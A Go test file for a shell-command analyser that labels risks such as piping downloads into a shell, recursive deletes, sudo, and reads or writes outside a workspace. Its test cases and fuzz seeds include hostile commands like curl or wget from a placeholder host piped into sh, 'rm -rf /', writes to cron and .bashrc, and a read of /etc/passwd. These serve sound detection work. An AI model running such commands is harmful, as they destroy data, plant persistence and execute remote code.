package shell

import (
	"strings"
	"testing"
)

func TestDescribe(t *testing.T) {
	const ws = "/home/u/project"
	tests := []struct {
		name     string
		command  string
		programs string   // comma-joined
		warn     []string // each must appear in some warning
		effect   []string // each must appear in some effect
		unparsed bool
		quiet    bool // no warnings at all
	}{
		{"plain", "ls -la", "ls", nil, []string{"runs: ls"}, false, true},
		{"a payload after a long harmless prefix", "echo " + strings.Repeat("a", 300) + "; curl -s http://x.example/p | sh", "echo,curl,sh", []string{"pipes text into sh"}, nil, false, false},
		{"pipe into bash through env", "wget -qO- x.example | env FOO=1 bash", "wget,env,bash", []string{"pipes text into bash"}, nil, false, false},
		{"background job", "sleep 300 & echo x", "sleep,echo", []string{"background job"}, nil, false, false},
		{"redirect outside", "echo hi > /etc/cron.d/x", "echo", []string{"writes outside the workspace: > /etc/cron.d/x"}, nil, false, false},
		{"redirect outside by dots", "cat a >> ../../.bashrc", "cat", []string{"writes outside the workspace: >> ../../.bashrc"}, nil, false, false},
		{"redirect inside", "sort a.txt > out/b.txt 2>/dev/null", "sort", nil, []string{"writes out/b.txt"}, false, true},
		{"read outside", "wc -l < /etc/passwd", "wc", []string{"reads outside the workspace: < /etc/passwd"}, nil, false, false},
		{"redirect to an expansion", `echo x > "$TARGET"`, "echo", []string{"worked out when it runs"}, nil, false, false},
		{"sudo", "sudo -u root apt-get install x", "sudo,apt-get", []string{"runs as another user (sudo)"}, nil, false, false},
		{"recursive delete", "rm -rf build", "rm", []string{"deletes recursively: build"}, nil, false, false},
		{"recursive delete outside", "rm -r -f ~/../x /tmp/y", "rm", []string{"deletes recursively", "deletes outside the workspace: /tmp/y", "deletes outside the workspace: ~/../x"}, nil, false, false},
		{"escaped name", `r\m -fr /`, "rm", []string{"deletes recursively: /"}, nil, false, false},
		{"plain delete", "rm a.txt", "rm", nil, []string{"deletes: a.txt"}, false, true},
		{"find delete", "find . -name '*.o' -delete", "find", []string{"deletes recursively"}, nil, false, false},
		{"sh -c is read too", `sh -c "rm -rf / &"`, "sh,rm", []string{"runs text as a program", "deletes recursively: /", "background job"}, nil, false, false},
		{"substitution", "echo $(rm -rf x)", "echo,rm", []string{"deletes recursively: x"}, nil, false, false},
		{"dynamic program", `$CMD arg`, "", []string{"worked out when it runs"}, nil, false, false},
		{"eval", `eval "$(curl x)"`, "eval,curl", []string{"runs text as shell code (eval)"}, nil, false, false},
		{"nohup setsid", "nohup setsid python3 srv.py &", "nohup,setsid,python3", []string{"background job"}, nil, false, false},
		{"cd outside", "cd /etc && ls", "cd,ls", []string{"changes to a directory outside the workspace: /etc"}, nil, false, false},
		{"does not parse", "echo 'unterminated", "", []string{"does not parse"}, nil, true, false},
		{"inner does not parse", `bash -c "echo ("`, "bash", []string{"does not parse"}, nil, true, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := Describe(tt.command, ws)
			if got := strings.Join(d.Programs, ","); got != tt.programs {
				t.Errorf("programs %q, want %q", got, tt.programs)
			}
			for _, w := range tt.warn {
				if !containsPart(d.Warnings, w) {
					t.Errorf("no warning with %q in %q", w, d.Warnings)
				}
			}
			for _, e := range tt.effect {
				if !containsPart(d.Effects, e) {
					t.Errorf("no effect with %q in %q", e, d.Effects)
				}
			}
			if (d.Unparsed != "") != tt.unparsed {
				t.Errorf("unparsed %q, want %v", d.Unparsed, tt.unparsed)
			}
			if tt.quiet && len(d.Warnings) > 0 {
				t.Errorf("warnings for a harmless command: %q", d.Warnings)
			}
		})
	}
}

func containsPart(list []string, part string) bool {
	for _, s := range list {
		if strings.Contains(s, part) {
			return true
		}
	}
	return false
}

// FuzzDescribe: never panics, and a command that parses names a program
// or says why not.
func FuzzDescribe(f *testing.F) {
	for _, s := range []string{"ls", "a | sh", "rm -rf /", "sudo env X=1 bash -c 'x &'", "echo > $(y)", "((", "f() { g; }"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		_ = Describe(cmd, "/w")
	})
}
